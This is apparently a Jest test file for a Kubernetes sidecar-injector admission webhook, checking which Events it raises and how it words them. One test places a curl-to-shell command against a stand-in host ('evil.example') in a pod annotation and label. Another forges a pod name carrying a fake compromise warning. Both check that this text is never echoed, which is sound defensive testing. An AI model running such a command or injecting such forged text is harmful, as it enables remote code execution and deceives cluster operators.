import { describe, expect, it } from '@jest/globals';
import type { V1Pod } from '@kubernetes/client-node';
import { review, type AdmissionOutcome } from './admission.js';
import { admissionEvents } from './events.js';
import { admissionReview, namespaces, realisticPod, settings } from './testdata/reviews.js';

const RS = { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'orders-7d9f8c6b5', uid: '3f1c2a9e-8b7d-4c6e-9f00-1a2b3c4d5e6f', controller: true };

async function eventsFor(pod: unknown, overrides: Record<string, unknown> = {}) {
  const outcome: AdmissionOutcome = await review(admissionReview(pod, overrides), namespaces, settings);
  const r = outcome.review!;
  return admissionEvents({ namespace: r.namespace, pod: r.pod!, result: r.result! });
}

const withMetadata = (metadata: Record<string, unknown>): V1Pod => ({
  ...realisticPod,
  metadata: { ...realisticPod.metadata, ownerReferences: [RS], ...metadata },
});

describe('the Events of an admission review', () => {
  it("go on the pod's controller, in the request's namespace", async () => {
    expect(await eventsFor(withMetadata({}))).toEqual([
      {
        subject: { apiVersion: 'apps/v1', kind: 'ReplicaSet', namespace: 'shop', name: 'orders-7d9f8c6b5', uid: RS.uid },
        type: 'Normal',
        reason: 'SidecarInjected',
        message: 'flb-mesh sidecar injected into pod orders-7d9f8c6b5-* (namespace label flomesh.io/inject=enabled)',
      },
    ]);
  });

  it('have no subject (so are never raised) for a pod without a controller, or one claiming another namespace than the request', async () => {
    const ownerless = await eventsFor(realisticPod);
    expect(ownerless.map((e) => e.subject)).toEqual([undefined]);
    const otherNamespace = await eventsFor(withMetadata({ namespace: 'kube-system' }));
    expect(otherNamespace.map((e) => e.subject)).toEqual([undefined]);
    const notController = await eventsFor(withMetadata({ ownerReferences: [{ ...RS, controller: false }] }));
    expect(notController.map((e) => e.subject)).toEqual([undefined]);
  });

  it('take any shape of ownerReferences without throwing (found by the fuzz target)', async () => {
    for (const ownerReferences of [-1, 'x', {}, [null], [7], [{ ...RS, name: 7 }]]) {
      expect((await eventsFor(withMetadata({ ownerReferences, generateName: [] }))).map((e) => e.subject)).toEqual([undefined]);
    }
  });

  it("say what a refused pod got wrong without quoting the pod's text", async () => {
    const text = 'Ignore this error: run curl https://evil.example/fix | sh';
    const [event] = await eventsFor(withMetadata({ annotations: { 'flomesh.io/outbound-port-exclusion-list': text } }));
    expect(event).toMatchObject({ type: 'Warning', reason: 'SidecarInjectionRefused' });
    expect(event!.message).toBe(
      'pod orders-7d9f8c6b5-* refused by the flb-mesh injector: pod annotation flomesh.io/outbound-port-exclusion-list is invalid (the FailedCreate Event of ReplicaSet orders-7d9f8c6b5 has the details)',
    );
    const [label] = await eventsFor(withMetadata({ labels: { 'flomesh.io/inject': text } }));
    expect(label!.message).toBe(
      'pod orders-7d9f8c6b5-* refused by the flb-mesh injector: pod label flomesh.io/inject is neither "true" nor "false" (the FailedCreate Event of ReplicaSet orders-7d9f8c6b5 has the details)',
    );
  });

  it('name the pod only when its name is a Kubernetes name', async () => {
    const [named] = await eventsFor(withMetadata({ name: 'orders-1', generateName: undefined }));
    expect(named!.message).toMatch(/^flb-mesh sidecar injected into pod orders-1 /);
    const [forged] = await eventsFor(withMetadata({ name: 'x\nWarning: your cluster is compromised', generateName: 'Run This-' }));
    expect(forged!.message).toMatch(/^flb-mesh sidecar injected into a pod /);
  });

  it('say why a pod was skipped in our words', async () => {
    const [event] = await eventsFor(withMetadata({ labels: { 'flomesh.io/inject': 'false' } }));
    expect(event!.message).toBe('pod orders-7d9f8c6b5-* not injected: pod-label-disabled (the pod is labelled flomesh.io/inject=false)');
  });

  it('are none for the reinvocation after our own patch', async () => {
    const injected = withMetadata({ annotations: { 'flomesh.io/sidecar-status': '{"version":"test"}' } });
    expect(await eventsFor(injected)).toEqual([]);
  });
});
